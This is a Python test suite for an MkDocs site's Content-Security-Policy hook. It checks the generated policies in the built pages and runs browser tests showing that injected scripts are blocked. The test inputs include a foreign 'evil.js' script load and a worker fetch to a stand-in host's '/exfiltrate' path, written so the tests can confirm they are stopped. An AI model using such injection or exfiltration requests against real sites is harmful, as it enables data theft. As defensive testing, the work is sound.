"""The Content-Security-Policy: in every built page, obeyed by the site, enforced by Chromium.

hooks/csp.py writes the policy; these tests check what it wrote (one <meta> tag, first in
<head>, hashes matching the page's inline scripts), that the whole site, the Python worker
included, runs under it without a single violation, and that it really blocks what it must:
an injected inline script or handler, eval on a plain page, another origin's script or data.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import logging
import re
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from mkdocs.exceptions import PluginError
from mkdocs.livereload import LiveReloadServer
from playwright.sync_api import Browser, Page, Route

from .harness import (
    CspLog,
    Session,
    Site,
    content_security_policy,
    load_hook,
    record,
    record_csp,
)
from .pages import PALETTE_TOGGLE, READY_TIMEOUT_MS, close_context

browser_test = pytest.mark.browser

FOREIGN = "https://cdn.example.invalid"
# The policy every page shares; the assessment page adds what Python needs (PYTHON_*).
SHARED = {
    "default-src": ["'self'"],
    "style-src": ["'self'"],
    "img-src": ["'self'", "data:"],
    "font-src": ["'self'"],
    "connect-src": ["'self'"],
    "worker-src": ["'self'"],
    "object-src": ["'none'"],
    "base-uri": ["'self'"],
    "form-action": ["'self'"],
}
PYTHON_EXTRAS = ["'wasm-unsafe-eval'", "'unsafe-eval'"]
PYTHON_WORKERS = ["'self'", "blob:"]
# Script types the browser runs; any other type is a data block (JSON, PyScript's "py").
RUN_TYPES = ("", "module", "text/javascript", "application/javascript", "importmap")
INLINE_SCRIPT = re.compile(r"<script\b([^>]*)>(.*?)</script\s*>", re.IGNORECASE | re.DOTALL)
SCRIPT_TYPE = re.compile(r"""\btype\s*=\s*["']?([^"'\s>]*)""", re.IGNORECASE)


hook = load_hook("csp")


def built_pages(site: Site) -> list[Path]:
    """Every HTML page of the built site, 404.html included."""
    return sorted(site.root.rglob("*.html"))


def page_url(site: Site, path: Path) -> str:
    """The URL the site serves `path` at."""
    return site.url(path.relative_to(site.root).as_posix().removesuffix("index.html"))


def expected_hashes(html: str) -> set[str]:
    """The sha256 sources of the inline scripts the browser would run, computed independently."""
    hashes = set()
    for attributes, body in INLINE_SCRIPT.findall(html):
        kind = SCRIPT_TYPE.search(attributes)
        if re.search(r"\bsrc\s*=", attributes) or (kind and kind[1].lower() not in RUN_TYPES):
            continue
        digest = hashlib.sha256(body.encode("utf-8")).digest()
        hashes.add(f"'sha256-{base64.b64encode(digest).decode()}'")
    return hashes


# -- The policy as built ---------------------------------------------------------------------


def test_every_page_has_one_policy_first_in_its_head(site: Site) -> None:
    """One <meta> policy per page, before anything else in <head>, hashing its inline scripts."""
    pages = built_pages(site)
    assert len(pages) > 25
    assert site.root / "404.html" in pages
    for path in pages:
        where = path.relative_to(site.root)
        html = path.read_text(encoding="utf-8")
        assert len(re.findall(r"content-security-policy", html, re.IGNORECASE)) == 1, where
        assert re.search(r'<head>\s*<meta http-equiv="Content-Security-Policy"', html), where
        # Moving the policy first must leave the charset declaration where browsers look for it.
        assert html.encode("utf-8").find(b'<meta charset="utf-8">') < 1024, where

        policy = content_security_policy(html)
        script_src = policy.pop("script-src")
        starts_python = re.search(r"""<script\b[^>]*type=["']?py\b""", html) is not None
        if starts_python:
            assert policy.pop("worker-src") == PYTHON_WORKERS, where
            policy["worker-src"] = SHARED["worker-src"]
        # Should a page carry style="" attributes, each is allowed by its hash, and no more.
        style_attributes = policy.pop("style-src-attr", ["'unsafe-hashes'"])
        assert style_attributes[0] == "'unsafe-hashes'", where
        assert all(source.startswith("'sha256-") for source in style_attributes[1:]), where
        assert policy == SHARED, where
        assert "'unsafe-inline'" not in script_src, where
        assert script_src[0] == "'self'", where
        extras = [source for source in script_src[1:] if not source.startswith("'sha256-")]
        assert extras == (PYTHON_EXTRAS if starts_python else []), where
        hashes = {source for source in script_src if source.startswith("'sha256-")}
        assert hashes == expected_hashes(html), where
        assert len(hashes) >= 3, where  # Material's palette, __md_scope and tabs scripts

    assessment = (site.root / "assessment" / "index.html").read_text(encoding="utf-8")
    assert "'unsafe-eval'" in content_security_policy(assessment)["script-src"]


# -- The site under its policy ---------------------------------------------------------------


@pytest.fixture
def guarded(browser: Browser, site: Site) -> Iterator[tuple[Session, CspLog]]:
    """A recorded browser context whose pages and workers report every policy violation.

    Watched, not routed: the walk over every page finds the HTTP cache, as a reader's browser
    does (a test that needs to see what reached the network routes that part itself).
    """
    context = browser.new_context()
    try:
        log = record(context, site.origin, intercept=False)
        csp = record_csp(context)
        yield Session(site=site, context=context, log=log), csp
    finally:
        close_context(context)


def exercise(page: Page, search: bool) -> None:
    """Use what Material's script does on a page: the palette toggle, scrolling, search."""
    page.locator(PALETTE_TOGGLE).first.click()
    page.mouse.wheel(0, 4000)
    page.mouse.wheel(0, -200)
    if search:  # its worker builds the index on each page load: a second or so each time
        page.keyboard.press("/")
        page.keyboard.type("agreement")
        page.locator(".md-search-result__item").first.wait_for(state="visible")
        page.keyboard.press("Escape")
    page.wait_for_timeout(100)


def wait_for_ready(page: Page) -> None:
    """Wait for the assessment page's engine without page.wait_for_function.

    Playwright's wait_for_function compiles its predicate with eval inside the page, which
    the policy forbids on every page but the assessment page; a selector needs no eval.
    """
    page.wait_for_selector('#py-status:not([data-state="loading"])', timeout=READY_TIMEOUT_MS)
    assert page.get_attribute("#py-status", "data-state") == "ready"


@browser_test
def test_no_page_violates_the_policy(guarded: tuple[Session, CspLog]) -> None:
    """Every page, used; the assessment page up to a result (its worker too): no violation."""
    session, csp = guarded
    page = session.context.new_page()
    for path in built_pages(session.site):
        url = page_url(session.site, path)
        page.goto(url)
        page.wait_for_load_state("load")
        if path.name != "404.html":
            exercise(
                page, search=path.parent in (session.site.root, session.site.root / "templates")
            )
        if path == session.site.root / "assessment" / "index.html":
            wait_for_ready(page)
            # The result, with its SVG chart, is written into the page at run time.
            page.click("#pp-submit")
            page.wait_for_selector("#pp-result-body svg", state="visible")
            # The worker under the recorder: its prelude is there to report, so a quiet
            # worker means no violation, not a deaf recorder (see the worker test below).
            assert [worker for worker in page.workers if worker.url.startswith("blob:")]
        assert csp.all_violations(page) == [], url
    session.log.assert_same_origin()


# -- What the policy blocks ------------------------------------------------------------------


@browser_test
def test_an_injected_inline_script_does_not_run(guarded: tuple[Session, CspLog]) -> None:
    """A page served with one more inline <script> (no hash for it): blocked and reported."""
    session, csp = guarded

    def with_extra_script(route: Route) -> None:
        """Serve the built page with an inline script the build never hashed."""
        html = route.fetch().text()
        extra = "<script>window.__injected = true;</script>"
        route.fulfill(body=html.replace("</body>", extra + "</body>"), content_type="text/html")

    session.context.route(session.site.url(""), with_extra_script)
    page = session.context.new_page()
    page.goto(session.site.url(""))
    page.wait_for_load_state("load")
    assert page.evaluate("window.__injected") is None
    # Material's own inline scripts, hashed, did run: the palette is set up.
    assert page.evaluate("typeof __md_scope") == "object"
    violations = csp.page_violations(page)
    assert [(v["directive"], v["blocked"]) for v in violations] == [("script-src-elem", "inline")]
    assert any("inline script" in line for line in csp.console)


@browser_test
def test_scripts_made_at_run_time_do_not_run(guarded: tuple[Session, CspLog]) -> None:
    """An inline script element, an inline handler, eval, a foreign script: all blocked."""
    session, csp = guarded
    # What the browser sends to the foreign origin reaches this route (and goes no further).
    reached: list[str] = []

    def abort(route: Route) -> None:
        reached.append(route.request.url)
        route.abort()

    session.context.route(f"{FOREIGN}/**", abort)
    page = session.context.new_page()
    page.goto(session.site.url(""))
    page.wait_for_load_state("load")
    outcome = page.evaluate(
        """async (foreign) => {
            const script = document.createElement("script");
            script.textContent = "window.__made = true;";
            document.body.append(script);
            const holder = document.createElement("div");
            holder.innerHTML = '<img src="data:," onerror="window.__handler = true">';
            document.body.append(holder);
            // From a task of the page's own (code that Playwright evaluates may always eval).
            const evaluated = await new Promise((resolve) => setTimeout(() => {
                try { resolve(eval("6 * 7")); } catch (error) { resolve(error.name); }
            }));
            const remote = document.createElement("script");
            remote.src = foreign + "/evil.js";
            const loaded = new Promise((resolve) => {
                remote.onload = () => resolve("loaded");
                remote.onerror = () => resolve("blocked");
            });
            document.head.append(remote);
            let fetched;
            try { await fetch(foreign + "/data.json"); fetched = "fetched"; }
            catch (error) { fetched = error.name; }
            await new Promise((resolve) => setTimeout(resolve, 200));
            return {
                made: window.__made ?? false, handler: window.__handler ?? false,
                evaluated, loaded: await loaded, fetched,
            };
        }""",
        FOREIGN,
    )
    assert outcome == {
        "made": False,
        "handler": False,
        "evaluated": "EvalError",
        "loaded": "blocked",
        "fetched": "TypeError",
    }
    reported = {(v["directive"], v["blocked"]) for v in csp.page_violations(page)}
    assert reported == {
        ("script-src-elem", "inline"),
        ("script-src-attr", "inline"),
        ("script-src", "eval"),
        ("script-src-elem", f"{FOREIGN}/evil.js"),
        ("connect-src", f"{FOREIGN}/data.json"),
    }
    # The policy stopped them in the browser: nothing reached the network, where the route
    # above would have aborted it (Chromium still announces the blocked <script> as a request).
    assert reached == []
    assert session.log.foreign() == [f"{FOREIGN}/evil.js"]


@browser_test
def test_the_python_worker_is_held_to_the_page_policy(guarded: tuple[Session, CspLog]) -> None:
    """PyScript's worker comes from a blob: URL, so it inherits the page's policy, and obeys it."""
    session, csp = guarded
    page = session.context.new_page()
    page.goto(session.site.url("assessment/"))
    wait_for_ready(page)
    workers = [worker for worker in page.workers if worker.url.startswith("blob:")]
    assert len(workers) == 1, [worker.url for worker in page.workers]
    outcome = workers[0].evaluate(
        """async (foreign) => {
            try { await fetch(foreign + "/exfiltrate"); return "fetched"; }
            catch (error) { return error.name; }
        }""",
        FOREIGN,
    )
    assert outcome == "TypeError"
    page.wait_for_timeout(200)
    assert [(v["directive"], v["blocked"]) for v in csp.workers] == [
        ("connect-src", f"{FOREIGN}/exfiltrate")
    ]
    assert csp.workers[0]["where"].startswith("worker")
    assert csp.page_violations(page) == []
    assert session.log.foreign() == []  # not even announced: the worker never sent it


@browser_test
def test_the_header_form_adds_to_the_meta_tag(guarded: tuple[Session, CspLog]) -> None:
    """Served with the README's header as well, the site still runs and cannot be framed."""
    session, csp = guarded
    header = hook.header_policy(session.site.root)

    def with_header(route: Route) -> None:
        """Answer as a host that sets the header on every response would (nginx add_header)."""
        response = route.fetch()
        route.fulfill(
            response=response, headers={**response.headers, "content-security-policy": header}
        )

    session.context.route(f"{session.site.base}**", with_header)
    page = session.context.new_page()
    for path in ("", "methodology/", "assessment/"):
        response = page.goto(session.site.url(path))
        assert response is not None and response.headers["content-security-policy"] == header
        # Workers loaded from a URL (Material's search, the offline service worker) get the
        # policy of their own response: the header holds them to it too, and they still work.
        exercise(page, search=path == "")
    wait_for_ready(page)
    page.click("#pp-submit")
    page.wait_for_selector("#pp-result-body svg", state="visible")
    assert csp.all_violations(page) == []

    # frame-ancestors 'none': no page, of this origin or another, may show the site in a frame.
    page.set_content(f'<iframe src="{session.site.url("")}"></iframe>')
    page.wait_for_timeout(500)
    assert any("frame-ancestors" in line for line in csp.console), csp.console
    assert page.frames[1].evaluate("location.href") != session.site.url("")
    # The service worker may still be keeping files: their routed requests end with the context.
    session.context.unroute_all(behavior="ignoreErrors")


def test_header_form_is_every_page_policy_and_frame_ancestors(site: Site) -> None:
    """The header is the union of the pages' policies, plus frame-ancestors 'none'."""
    header = content_security_policy(
        f'<meta http-equiv="Content-Security-Policy" content="{hook.header_policy(site.root)}">'
    )
    assert header.pop("frame-ancestors") == ["'none'"]
    for path in built_pages(site):
        page = content_security_policy(path.read_text(encoding="utf-8"))
        assert set(page) <= set(header), path
        for name, sources in page.items():
            assert set(sources) <= set(header[name]), (path, name)
    assert "'unsafe-inline'" not in header["script-src"]


# -- hooks/csp.py on its own -----------------------------------------------------------------

PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>t</title>
<script>var a = 1;</script>
<script type="application/json" id="__config">{"x": "</p>"}</script>
<script src="x.js"></script>
<style>p { color: red }</style>
</head><body><p>{body}</p></body></html>"""


def digest(text: str) -> str:
    """The CSP source of `text`, the way the test computes it."""
    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


def test_hook_hashes_what_runs_and_skips_data_blocks() -> None:
    """Inline scripts and styles are hashed; JSON blocks and external scripts are not."""
    html = hook.add_policy(PAGE.replace("{body}", ""), "page.md")
    assert html.index("<head>") + len("<head>") == html.index("<meta http-equiv")
    policy = content_security_policy(html)
    assert policy["script-src"] == ["'self'", digest("var a = 1;")]
    assert policy["style-src"] == ["'self'", digest("p { color: red }")]
    assert "style-src-attr" not in policy


def test_hook_hashes_the_text_the_browser_parses() -> None:
    """The browser turns CR LF into LF before hashing; the hook does too."""
    html = hook.add_policy(PAGE.replace("var a = 1;", "var a = 1;\r\nvar b = 2;"), "page.md")
    assert digest("var a = 1;\nvar b = 2;") in content_security_policy(html)["script-src"]


def test_hook_allows_python_only_where_it_starts() -> None:
    """'unsafe-eval' and 'wasm-unsafe-eval' appear only on a page with a PyScript tag."""
    plain = content_security_policy(hook.add_policy(PAGE, "plain.md"))
    python = PAGE.replace("{body}", '<script type="py" worker src="main.py"></script>')
    with_python = content_security_policy(hook.add_policy(python, "python.md"))
    assert not {"'unsafe-eval'", "'wasm-unsafe-eval'"} & set(plain["script-src"])
    assert {"'unsafe-eval'", "'wasm-unsafe-eval'"} <= set(with_python["script-src"])
    assert plain["worker-src"] == ["'self'"]
    assert with_python["worker-src"] == ["'self'", "blob:"]


def test_hook_hashes_style_attributes_narrowly() -> None:
    """A style="" attribute is allowed by its hash, in style-src-attr only."""
    html = hook.add_policy(PAGE.replace("<p>", '<p style="color: blue">'), "page.md")
    policy = content_security_policy(html)
    assert policy["style-src-attr"] == ["'unsafe-hashes'", digest("color: blue")]
    assert "'unsafe-hashes'" not in policy["style-src"] + policy["script-src"]


@pytest.mark.parametrize(
    "body",
    ['<a href="#" onclick="go()">go</a>', '<a href="javascript:go()">go</a>'],
)
def test_hook_warns_about_inline_handlers(body: str, caplog: pytest.LogCaptureFixture) -> None:
    """An inline handler or javascript: URL would be blocked: the (strict) build is told."""
    with caplog.at_level(logging.WARNING, logger="mkdocs.hooks.csp"):
        hook.add_policy(PAGE.replace("{body}", body), "page.md")
    assert "blocked by the Content-Security-Policy" in caplog.text


def test_hook_refuses_a_second_policy_and_a_page_without_head() -> None:
    """The hook writes the only policy, and needs a <head> to write it in."""
    with pytest.raises(PluginError, match="already has"):
        hook.add_policy(hook.add_policy(PAGE, "page.md"), "page.md")
    with pytest.raises(PluginError, match="no <head>"):
        hook.add_policy("<p>no head</p>", "page.md")


def test_hook_lets_the_live_reload_script_run_on_serve(monkeypatch: pytest.MonkeyPatch) -> None:
    """On `mkdocs serve` the policy carries a nonce, given to the injected live-reload script."""
    monkeypatch.setattr(hook, "_serve_nonce", None)
    hook.on_startup(command="serve", dirty=False)
    nonce = hook._serve_nonce
    assert nonce
    # The development server's own injection (it uses nothing of its server instance).
    inject: Any = LiveReloadServer._inject_js_into_html
    served = SimpleNamespace(_inject_js_into_html=functools.partial(inject, None))
    server: Any = hook.on_serve(served, config=None, builder=lambda: None)
    page = hook.add_policy(PAGE, "page.md", hook._serve_nonce)
    assert f"'nonce-{nonce}'" in content_security_policy(page)["script-src"]
    injected = server._inject_js_into_html(page.encode(), 1).decode()
    assert f'<script nonce="{nonce}">\nvar livereload = function(' in injected

    hook.on_startup(command="build", dirty=False)
    assert hook._serve_nonce is None
